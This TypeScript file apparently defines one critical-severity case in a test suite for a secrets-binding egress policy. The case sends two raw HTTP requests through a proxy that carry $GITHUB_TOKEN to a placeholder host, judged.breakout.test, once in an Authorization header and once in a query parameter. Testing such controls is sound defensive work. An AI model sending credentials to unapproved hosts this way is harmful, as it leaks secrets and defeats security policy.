// Sends the key that the policy lets the command use to a host that it isn't for.
import { PLAIN } from "../../baselines.js";
import { delivers } from "../../judges.js";
import { throughProxy } from "../../scripts.js";
import { brokering } from "../../tweaks.js";
import type { Attack } from "../../types.js";

export const secretsElsewhere: Attack = {
  id: "secrets/elsewhere",
  control: "secrets.bound-hosts",
  severity: "critical",
  threats: ["H23", "H33"],
  sentence:
    "Sends the key that the policy lets the command use to a host that it isn't for, in a header field and in the address.",
  inside: [
    throughProxy(
      "GET http://judged.breakout.test/$NONCE HTTP/1.1\\r\\nHost: judged.breakout.test\\r\\nAuthorization: Bearer $GITHUB_TOKEN\\r\\n\\r\\n",
    ),
    throughProxy(
      "GET http://judged.breakout.test/$NONCE?key=$GITHUB_TOKEN HTTP/1.1\\r\\nHost: judged.breakout.test\\r\\n\\r\\n",
    ),
  ].join("\n"),
  judge: delivers("env-github", "allowed", "tcp4"),
  baseline: PLAIN,
  tweak: brokering,
  policyOnly: true,
};
